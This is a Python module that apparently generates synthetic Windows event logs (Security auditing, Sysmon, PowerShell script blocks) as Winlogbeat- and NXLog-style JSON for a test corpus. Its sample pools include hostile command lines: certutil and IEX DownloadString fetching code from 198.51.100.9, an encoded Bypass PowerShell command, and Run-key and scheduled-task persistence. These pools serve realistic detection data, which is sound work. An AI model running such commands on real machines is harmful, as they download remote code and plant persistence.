"""Windows events as JSON, ~2.1 KB: half as Winlogbeat writes them (nested `winlog.event_data`), half as NXLog's
im_msvistalog + to_json does (flat). Security auditing, Sysmon and PowerShell script blocks.

Field names and message texts after Microsoft's auditing reference, Sysmon's schema 4.90, and both shippers' manuals.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Any, NamedTuple

import orjson

from corpora.draw import I64, Draw, iso, render
from corpora.pools import DOMAINS, INSIDE, OUTSIDE, PEOPLE, WINDOWS_HOSTS

IMAGES = (
    "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\cmd.exe",
    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
    "C:\\Windows\\System32\\services.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE",
    "C:\\Windows\\System32\\lsass.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
    "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe", "C:\\Windows\\System32\\taskhostw.exe", "C:\\Windows\\System32\\rundll32.exe",
    "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MsMpEng.exe", "C:\\Windows\\System32\\reg.exe",
    "C:\\Windows\\System32\\net.exe", "C:\\Windows\\System32\\schtasks.exe", "C:\\Windows\\System32\\certutil.exe",
    "C:\\Windows\\System32\\conhost.exe", "C:\\Windows\\System32\\SearchIndexer.exe", "C:\\Windows\\System32\\mshta.exe",
)  # fmt: skip
COMMANDS = (
    '"{image}" -Embedding', "{image} -k netsvcs -p -s Schedule", '"{image}" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4',
    "{image} /c whoami /all > C:\\Users\\Public\\{tag}.txt", "{image} -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA{tag}",
    "{image} add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v {tag} /t REG_SZ /d C:\\Users\\Public\\a.exe /f",
    "{image} user /domain", "{image} /create /tn Updater{tag} /tr C:\\Windows\\Temp\\u.exe /sc onlogon", "{image}",
    '"{image}" -urlcache -split -f http://198.51.100.9/{tag}.bin C:\\Windows\\Temp\\x.bin', "{image} javascript:\"\\..\\mshtml,RunHTMLApplication \"",
)  # fmt: skip
SCRIPTS = (
    "function Get-Uptime {{\n    $os = Get-WmiObject win32_operatingsystem\n    $uptime = (Get-Date) - ($os.ConvertToDateTime($os.lastbootuptime))\n    Write-Output (\"Uptime: \" + $uptime.Days)\n}}\n# {tag}",
    "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/{tag}.ps1')",
    "Get-ADUser -Filter * -Properties LastLogonDate | Where-Object {{ $_.Enabled -eq $true }} | Export-Csv -Path \"C:\\Temp\\{tag}.csv\" -NoTypeInformation",
    "{{ Set-StrictMode -Version 1; $_.PSMessageDetails }}",
    "prompt",
    "$s = New-PSSession -ComputerName DC01 -Credential $cred; Invoke-Command -Session $s -ScriptBlock {{ Get-Process lsass }} # {tag}",
    "Import-Module 'C:\\Program Files\\WindowsPowerShell\\Modules\\Contoso.Ops\\{tag}.psm1' -Force; Start-Job -Name sync -ScriptBlock {{ param($p) Sync-Share -Path $p }} -ArgumentList '\\\\FS01\\dept$'",
)  # fmt: skip
FILES = ("C:\\Users\\{u}\\Documents\\Q{n} plan.docx", "\\Device\\HarddiskVolume3\\Share\\Finance\\{t}.xlsx", "C:\\Users\\{u}\\AppData\\Local\\Temp\\{t}.tmp",
         "C:\\Windows\\System32\\Tasks\\Updater{n}", "C:\\Users\\{u}\\Downloads\\invoice_{n}.exe")  # fmt: skip
KEYS = (
    "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater", "HKU\\S-1-5-21-1004336348-1177238915-682003330-1{n}\\Software\\Microsoft\\Office\\16.0\\Word\\Security\\VBAWarnings",
    "HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\{t}", "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Real-Time Protection\\DisableRealtimeMonitoring",
)  # fmt: skip
FAILURES = (
    ("0xc000006d", "0xc000006a"),
    ("0xc000006d", "0xc0000064"),
    ("0xc0000234", "0x0"),
    ("0xc000006e", "0xc0000072"),
)


class Row(NamedTuple):
    """What one event may need."""

    micros: int
    iso3: str
    iso7: str
    local: str
    host: str
    user: str
    ip: str
    out: str
    domain: str
    image: str
    parent: str
    port: int
    n: int
    tag: str
    tag2: str


Data = dict[str, str]
Event = tuple[Data, str]
"""What `EventData` holds, and the rendered message."""


def sid(r: Row) -> str:
    return f"S-1-5-21-1004336348-1177238915-682003330-{1000 + r.n % 3000}"


def guid(tag: str) -> str:
    return f"{{{tag[:8]}-{tag[8:12]}-{tag[12:16]}-{tag[16:20]}-{tag[20:32]}}}"


def _subject(r: Row, system: bool = True) -> Data:
    if system:
        return {
            "SubjectUserSid": "S-1-5-18",
            "SubjectUserName": r.host + "$",
            "SubjectDomainName": "CORP",
            "SubjectLogonId": "0x3e7",
        }
    return {
        "SubjectUserSid": sid(r),
        "SubjectUserName": r.user,
        "SubjectDomainName": "CORP",
        "SubjectLogonId": "0x" + r.tag[:7],
    }


def _subject_text(d: Data) -> str:
    return (
        f"Subject:\r\n\tSecurity ID:\t\t{d['SubjectUserSid']}\r\n\tAccount Name:\t\t{d['SubjectUserName']}\r\n"
        f"\tAccount Domain:\t\t{d['SubjectDomainName']}\r\n\tLogon ID:\t\t{d['SubjectLogonId']}\r\n\r\n"
    )


def _logon(r: Row) -> Event:
    kind = (3, 3, 3, 5, 2, 10, 7, 4)[r.n % 8]
    d = _subject(r) | {
        "TargetUserSid": sid(r), "TargetUserName": r.user, "TargetDomainName": "CORP", "TargetLogonId": "0x" + r.tag[:7], "LogonType": str(kind),
        "LogonProcessName": "Kerberos" if kind == 3 else "User32 ", "AuthenticationPackageName": "Kerberos" if kind == 3 else "Negotiate",
        "WorkstationName": "-" if kind == 3 else r.host, "LogonGuid": guid(r.tag2), "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0",
        "ProcessId": "0x0", "ProcessName": "-", "IpAddress": r.ip if kind in (3, 10) else "-", "IpPort": str(r.port) if kind in (3, 10) else "-",
        "ImpersonationLevel": "%%1833", "RestrictedAdminMode": "-", "TargetOutboundUserName": "-", "TargetOutboundDomainName": "-",
        "VirtualAccount": "%%1843", "TargetLinkedLogonId": "0x0", "ElevatedToken": "%%1842",
    }  # fmt: skip
    return d, (
        "An account was successfully logged on.\r\n\r\n"
        + _subject_text(d)
        + f"Logon Information:\r\n\tLogon Type:\t\t{kind}\r\n\tRestricted Admin Mode:\t-\r\n"
        f"\tVirtual Account:\t\tNo\r\n\tElevated Token:\t\tYes\r\n\r\nImpersonation Level:\t\tImpersonation\r\n\r\nNew Logon:\r\n\tSecurity ID:\t\t{d['TargetUserSid']}\r\n"
        f"\tAccount Name:\t\t{r.user}\r\n\tAccount Domain:\t\tCORP\r\n\tLogon ID:\t\t{d['TargetLogonId']}\r\n\tLogon GUID:\t\t{d['LogonGuid']}\r\n\r\n"
        f"Network Information:\r\n\tWorkstation Name:\t{d['WorkstationName']}\r\n\tSource Network Address:\t{d['IpAddress']}\r\n\tSource Port:\t\t{d['IpPort']}\r\n\r\n"
        f"Detailed Authentication Information:\r\n\tLogon Process:\t\t{d['LogonProcessName']}\r\n\tAuthentication Package:\t{d['AuthenticationPackageName']}\r\n"
        "\r\nThis event is generated when a logon session is created. It is generated on the computer that was accessed."
    )


def _failed(r: Row) -> Event:
    status, sub = FAILURES[r.n % 4]
    d = _subject(r) | {
        "TargetUserSid": "S-1-0-0", "TargetUserName": r.user if r.n % 3 else f"admin{r.n % 90}", "TargetDomainName": "CORP", "Status": status,
        "FailureReason": "%%2313", "SubStatus": sub, "LogonType": "3", "LogonProcessName": "NtLmSsp ", "AuthenticationPackageName": "NTLM",
        "WorkstationName": f"KALI{r.n % 9}", "TransmittedServices": "-", "LmPackageName": "-", "KeyLength": "0", "ProcessId": "0x0", "ProcessName": "-",
        "IpAddress": r.out if r.n % 2 else r.ip, "IpPort": str(r.port),
    }  # fmt: skip
    return d, (
        "An account failed to log on.\r\n\r\n"
        + _subject_text(d)
        + "Logon Type:\t\t\t3\r\n\r\nAccount For Which Logon Failed:\r\n\tSecurity ID:\t\tS-1-0-0\r\n"
        f"\tAccount Name:\t\t{d['TargetUserName']}\r\n\tAccount Domain:\t\tCORP\r\n\r\nFailure Information:\r\n\tFailure Reason:\t\tUnknown user name or bad password.\r\n"
        f"\tStatus:\t\t\t{status}\r\n\tSub Status:\t\t{sub}\r\n\r\nNetwork Information:\r\n\tWorkstation Name:\t{d['WorkstationName']}\r\n"
        f"\tSource Network Address:\t{d['IpAddress']}\r\n\tSource Port:\t\t{r.port}\r\n\r\nDetailed Authentication Information:\r\n\tLogon Process:\t\tNtLmSsp \r\n"
        "\tAuthentication Package:\tNTLM\r\n\r\nThis event is generated when a logon request fails. It is generated on the computer where access was attempted."
    )


def _created(r: Row) -> Event:
    line = COMMANDS[r.n % len(COMMANDS)].format(image=r.image, tag=r.tag[:8])
    d = _subject(r, r.n % 2 == 0) | {
        "NewProcessId": "0x" + r.tag[8:12], "NewProcessName": r.image, "TokenElevationType": "%%1936", "ProcessId": "0x" + r.tag[12:16], "CommandLine": line,
        "TargetUserSid": "S-1-0-0", "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0", "ParentProcessName": r.parent,
        "MandatoryLabel": "S-1-16-8192",
    }  # fmt: skip
    return d, (
        "A new process has been created.\r\n\r\nCreator "
        + _subject_text(d)
        + f"Target Subject:\r\n\tSecurity ID:\t\tS-1-0-0\r\n\tAccount Name:\t\t-\r\n\r\nProcess Information:\r\n"
        f"\tNew Process ID:\t\t{d['NewProcessId']}\r\n\tNew Process Name:\t{r.image}\r\n\tToken Elevation Type:\t%%1936\r\n\tMandatory Label:\t\tMandatory Label\\Medium Mandatory Level\r\n"
        f"\tCreator Process ID:\t{d['ProcessId']}\r\n\tCreator Process Name:\t{r.parent}\r\n\tProcess Command Line:\t{line}\r\n\r\n"
        "Token Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy."
    )


def _privileges(r: Row) -> Event:
    d = _subject(r, r.n % 3 == 0) | {
        "PrivilegeList": "SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege\n\t\t\tSeTakeOwnershipPrivilege\n\t\t\tSeDebugPrivilege\n\t\t\tSeImpersonatePrivilege"
    }
    return d, "Special privileges assigned to new logon.\r\n\r\n" + _subject_text(d) + "Privileges:\t\t" + d[
        "PrivilegeList"
    ].replace("\n", "\r\n")


def _filtered(r: Row) -> Event:
    d = {
        "ProcessID": str(r.n % 9000), "Application": r.image.lower().replace("c:", "\\device\\harddiskvolume3"), "Direction": "%%14593", "SourceAddress": r.ip,
        "SourcePort": str(r.port), "DestAddress": r.out, "DestPort": str((443, 53, 445, 80, 389)[r.n % 5]), "Protocol": "6", "FilterRTID": str(60_000 + r.n % 9000),
        "LayerName": "%%14611", "LayerRTID": "48", "RemoteUserID": "S-1-0-0", "RemoteMachineID": "S-1-0-0",
    }  # fmt: skip
    return d, (
        f"The Windows Filtering Platform has permitted a connection.\r\n\r\nApplication Information:\r\n\tProcess ID:\t\t{d['ProcessID']}\r\n\tApplication Name:\t{d['Application']}\r\n\r\n"
        f"Network Information:\r\n\tDirection:\t\tOutbound\r\n\tSource Address:\t\t{r.ip}\r\n\tSource Port:\t\t{r.port}\r\n\tDestination Address:\t{r.out}\r\n"
        f"\tDestination Port:\t\t{d['DestPort']}\r\n\tProtocol:\t\t6\r\n\r\nFilter Information:\r\n\tFilter Run-Time ID:\t{d['FilterRTID']}\r\n\tLayer Name:\t\tConnect\r\n\tLayer Run-Time ID:\t48"
    )


def _object(r: Row) -> Event:
    name = FILES[r.n % 5].format(u=r.user, n=r.n % 400, t=r.tag[:8])
    d = _subject(r, False) | {
        "ObjectServer": "Security", "ObjectType": "File", "ObjectName": name, "HandleId": "0x" + r.tag[:4], "AccessList": "%%4416\n\t\t\t\t%%4423",
        "AccessMask": "0x1", "ProcessId": "0x" + r.tag[4:8], "ProcessName": r.image, "ResourceAttributes": "S:AI",
    }  # fmt: skip
    return d, (
        "An attempt was made to access an object.\r\n\r\n"
        + _subject_text(d)
        + f"Object:\r\n\tObject Server:\t\tSecurity\r\n\tObject Type:\t\tFile\r\n\tObject Name:\t\t{name}\r\n"
        f"\tHandle ID:\t\t{d['HandleId']}\r\n\tResource Attributes:\tS:AI\r\n\r\nProcess Information:\r\n\tProcess ID:\t\t{d['ProcessId']}\r\n\tProcess Name:\t\t{r.image}\r\n\r\n"
        "Access Request Information:\r\n\tAccesses:\t\tReadData (or ListDirectory)\r\n\t\t\t\tReadAttributes\r\n\t\t\t\t\r\n\tAccess Mask:\t\t0x1"
    )


def _text(title: str, d: Data) -> str:
    return f"{title}:\r\n" + "\r\n".join(f"{k}: {v}" for k, v in d.items())


def _sysmon(r: Row, **more: str) -> Data:
    return {"RuleName": "-", "UtcTime": r.iso3[:-1].replace("T", " ")} | more


def _sysmon1(r: Row) -> Event:
    name = r.image.rsplit("\\", 1)[1]
    d = _sysmon(r, ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), Image=r.image, FileVersion="10.0.19041.3636 (WinBuild.160101.0800)",
        Description="Windows " + name[:-4], Product="Microsoft\u00ae Windows\u00ae Operating System", Company="Microsoft Corporation", OriginalFileName=name,
        CommandLine=COMMANDS[r.n % len(COMMANDS)].format(image=r.image, tag=r.tag[:8]), CurrentDirectory=f"C:\\Users\\{r.user}\\", User=f"CORP\\{r.user}",
        LogonGuid=guid(r.tag2), LogonId="0x" + r.tag[:6], TerminalSessionId=str(r.n % 4), IntegrityLevel=("Medium", "High", "System")[r.n % 3],
        Hashes=f"MD5={r.tag.upper()},SHA256={(r.tag + r.tag2).upper()},IMPHASH={r.tag2.upper()}", ParentProcessGuid=guid(r.tag2), ParentProcessId=str(r.n % 9000),
        ParentImage=r.parent, ParentCommandLine=f'"{r.parent}"', ParentUser=f"CORP\\{r.user}")  # fmt: skip
    return d, _text("Process Create", d)


def _sysmon3(r: Row) -> Event:
    d = _sysmon(r, ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), Image=r.image, User=f"CORP\\{r.user}", Protocol="tcp", Initiated="true", SourceIsIpv6="false",
        SourceIp=r.ip, SourceHostname=f"{r.host}.corp.example.com", SourcePort=str(r.port), SourcePortName="-", DestinationIsIpv6="false", DestinationIp=r.out,
        DestinationHostname=r.domain, DestinationPort="443", DestinationPortName="https")  # fmt: skip
    return d, _text("Network connection detected", d)


def _sysmon7(r: Row) -> Event:
    d = _sysmon(r, ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), Image=r.image, ImageLoaded=f"C:\\Windows\\System32\\{('amsi', 'ntdll', 'samlib', 'vaultcli', 'dbghelp')[r.n % 5]}.dll",
        FileVersion="10.0.19041.3636 (WinBuild.160101.0800)", Description="Anti-Malware Scan Interface", Product="Microsoft\u00ae Windows\u00ae Operating System",
        Company="Microsoft Corporation", OriginalFileName="amsi.dll", Hashes=f"MD5={r.tag.upper()},SHA256={(r.tag + r.tag2).upper()},IMPHASH={r.tag2.upper()}",
        Signed="true", Signature="Microsoft Windows", SignatureStatus="Valid", User=f"CORP\\{r.user}")  # fmt: skip
    return d, _text("Image loaded", d)


def _sysmon10(r: Row) -> Event:
    d = _sysmon(r, SourceProcessGUID=guid(r.tag), SourceProcessId=str(r.n % 30_000), SourceThreadId=str(r.n % 9000), SourceImage=r.image, TargetProcessGUID=guid(r.tag2),
        TargetProcessId="712", TargetImage="C:\\Windows\\system32\\lsass.exe", GrantedAccess=("0x1000", "0x1410", "0x1fffff", "0x1010")[r.n % 4],
        CallTrace=f"C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|C:\\Windows\\System32\\lsm.dll+{r.tag[:5]}|C:\\Windows\\System32\\RPCRT4.dll+76953",
        SourceUser=f"CORP\\{r.user}", TargetUser="NT AUTHORITY\\SYSTEM")  # fmt: skip
    return d, _text("Process accessed", d)


def _sysmon11(r: Row) -> Event:
    d = _sysmon(r, ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), Image=r.image, TargetFilename=FILES[r.n % 5].format(u=r.user, n=r.n % 400, t=r.tag[:8]),
        CreationUtcTime=r.iso3[:-1].replace("T", " "), User=f"CORP\\{r.user}")  # fmt: skip
    return d, _text("File created", d)


def _sysmon12(r: Row) -> Event:
    d = _sysmon(r, EventType="CreateKey" if r.n % 2 else "DeleteValue", ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), Image=r.image,
        TargetObject=KEYS[r.n % 4].format(n=r.n % 900, t=sid(r)), User=f"CORP\\{r.user}")  # fmt: skip
    return d, _text("Registry object added or deleted", d)


def _sysmon13(r: Row) -> Event:
    d = _sysmon(r, EventType="SetValue", ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), Image=r.image, TargetObject=KEYS[r.n % 4].format(n=r.n % 900, t=sid(r)),
        Details=("DWORD (0x00000001)", "C:\\Users\\Public\\a.exe", "Binary Data", "QWORD (0x01db38f0-0x3c2a1b00)")[r.n % 4], User=f"CORP\\{r.user}")  # fmt: skip
    return d, _text("Registry value set", d)


def _sysmon22(r: Row) -> Event:
    d = _sysmon(r, ProcessGuid=guid(r.tag), ProcessId=str(r.n % 30_000), QueryName=r.domain, QueryStatus="0", QueryResults=f"type:  5 edge.{r.domain};::ffff:{r.out};",
        Image=r.image, User=f"CORP\\{r.user}")  # fmt: skip
    return d, _text("Dns query", d)


def _script(r: Row) -> Event:
    script = SCRIPTS[r.n % len(SCRIPTS)].format(tag=r.tag[:8])
    d = {
        "MessageNumber": "1",
        "MessageTotal": "1",
        "ScriptBlockText": script,
        "ScriptBlockId": guid(r.tag)[1:-1],
        "Path": "" if r.n % 2 else f"C:\\Scripts\\{r.tag[:6]}.ps1",
    }
    return (
        d,
        f"Creating Scriptblock text (1 of 1):\r\n{script}\r\n\r\nScriptBlock ID: {d['ScriptBlockId']}\r\nPath: {d['Path']}",
    )


SECURITY = ("Security", "Microsoft-Windows-Security-Auditing", "{54849625-5478-4994-a5ba-3e3b0328c30d}")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", "{5770385f-c22a-43e0-bf4c-06f5698ffbd9}")
POWERSHELL = (
    "Microsoft-Windows-PowerShell/Operational",
    "Microsoft-Windows-PowerShell",
    "{a0c1853b-5c40-4b15-8766-3cf1c58f985a}",
)

EVENTS: list[tuple[float, int, tuple[str, str, str], int, str, str, Callable[[Row], Event]]] = [
    (16, 4624, SECURITY, 2, "Logon", "0x8020000000000000", _logon),
    (10, 4625, SECURITY, 0, "Logon", "0x8010000000000000", _failed),
    (11, 4688, SECURITY, 2, "Process Creation", "0x8020000000000000", _created),
    (6, 4672, SECURITY, 0, "Special Logon", "0x8020000000000000", _privileges),
    (12, 5156, SECURITY, 1, "Filtering Platform Connection", "0x8020000000000000", _filtered),
    (7, 4663, SECURITY, 1, "File System", "0x8020000000000000", _object),
    (11, 1, SYSMON, 5, "Process Create (rule: ProcessCreate)", "0x8000000000000000", _sysmon1),
    (7, 3, SYSMON, 5, "Network connection detected (rule: NetworkConnect)", "0x8000000000000000", _sysmon3),
    (4, 7, SYSMON, 3, "Image loaded (rule: ImageLoad)", "0x8000000000000000", _sysmon7),
    (3, 10, SYSMON, 3, "Process accessed (rule: ProcessAccess)", "0x8000000000000000", _sysmon10),
    (4, 11, SYSMON, 2, "File created (rule: FileCreate)", "0x8000000000000000", _sysmon11),
    (1, 12, SYSMON, 2, "Registry object added or deleted (rule: RegistryEvent)", "0x8000000000000000", _sysmon12),
    (3, 13, SYSMON, 2, "Registry value set (rule: RegistryEvent)", "0x8000000000000000", _sysmon13),
    (4, 22, SYSMON, 5, "Dns query (rule: DnsQuery)", "0x8000000000000000", _sysmon22),
    (5, 4104, POWERSHELL, 1, "Execute a Remote Command", "0x0", _script),
]


def _winlogbeat(k: int, r: Row) -> dict[str, Any]:
    _, code, (channel, provider, uid), version, task, _, make = EVENTS[k]
    data, message = make(r)
    fqdn = f"{r.host}.corp.example.com"
    failed = code == 4625
    winlog: dict[str, Any] = {
        "channel": channel,
        "computer_name": fqdn,
        "event_data": data,
        "event_id": str(code),
        "opcode": "Info",
        "process": {"pid": 700 + r.n % 3000, "thread": {"id": r.n % 9000}},
        "provider_guid": uid,
        "provider_name": provider,
        "record_id": r.micros // 12_500 % 10**9,
        "task": task,
        "version": version,
        "api": "wineventlog",
    }
    if channel == "Security":
        winlog["keywords"] = ["Audit Failure" if failed else "Audit Success"]
    else:
        winlog["user"] = {"identifier": "S-1-5-18", "name": "SYSTEM", "domain": "NT AUTHORITY", "type": "User"}
    return {
        "@timestamp": r.iso3,
        "@metadata": {"beat": "winlogbeat", "type": "_doc", "version": "8.15.3"},
        "winlog": winlog,
        "event": {
            "code": str(code),
            "kind": "event",
            "provider": provider,
            "action": task,
            "created": r.iso3,
            **({"outcome": "failure" if failed else "success"} if channel == "Security" else {}),
        },
        "log": {"level": "information"},
        "message": message,
        "host": {"name": fqdn},
        "agent": {
            "id": "3f0c2b1e-7a55-4b0e-9d31-5b0f6c1e8a44",
            "name": r.host,
            "type": "winlogbeat",
            "version": "8.15.3",
            "ephemeral_id": guid(r.tag2)[1:-1],
        },
        "ecs": {"version": "8.0.0"},
    }


def _nxlog(k: int, r: Row) -> dict[str, Any]:
    _, code, (channel, provider, uid), version, task, keywords, make = EVENTS[k]
    data, message = make(r)
    failed = code == 4625
    return {
        "EventTime": r.local,
        "Hostname": f"{r.host}.corp.example.com",
        "Keywords": keywords,
        "LevelValue": 0 if channel == "Security" else 4,
        "EventType": ("AUDIT_FAILURE" if failed else "AUDIT_SUCCESS") if channel == "Security" else "INFO",
        "SeverityValue": 4 if failed else 2,
        "Severity": "ERROR" if failed else "INFO",
        "EventID": code,
        "SourceName": provider,
        "ProviderGuid": uid.upper(),
        "Version": version,
        "TaskValue": 12544 if channel == "Security" else code,
        "OpcodeValue": 0,
        "RecordNumber": r.micros // 12_500 % 10**9,
        "ExecutionProcessID": 700 + r.n % 3000,
        "ExecutionThreadID": r.n % 9000,
        "Channel": channel,
        **(
            {}
            if channel == "Security"
            else {"Domain": "NT AUTHORITY", "AccountName": "SYSTEM", "UserID": "S-1-5-18", "AccountType": "User"}
        ),
        "Message": message,
        "Category": task,
        "Opcode": "Info",
        **data,
        "EventReceivedTime": r.iso3,
        "SourceModuleName": "eventlog",
        "SourceModuleType": "im_msvistalog",
    }


def lines(draw: Draw, micros: I64) -> list[str]:
    """One line a time of `micros`."""
    n = len(micros)
    hosts = draw.index(len(WINDOWS_HOSTS), n, 0.6)
    columns = zip(
        micros.tolist(),
        iso(micros, 3),
        iso(micros, 7),
        render(micros, "%Y-%m-%dT%H:%M:%S.000000+00:00"),
        [WINDOWS_HOSTS[h] for h in hosts],
        draw.pick(PEOPLE, n),
        draw.pick(INSIDE, n, 0.8),
        draw.pick(OUTSIDE, n),
        draw.pick(DOMAINS, n),
        draw.pick(IMAGES, n, 0.8),
        draw.pick(IMAGES, n, 0.8),
        draw.ints(1024, 65536, n),
        draw.ints(0, 100_000, n),
        draw.hexes(32, n),
        draw.hexes(32, n),
        strict=True,
    )
    which = draw.kinds([e[0] for e in EVENTS], n).tolist()
    return [
        orjson.dumps((_winlogbeat if h % 2 else _nxlog)(k, row)).decode()
        for k, h, row in zip(which, hosts, map(Row._make, columns), strict=True)
    ]
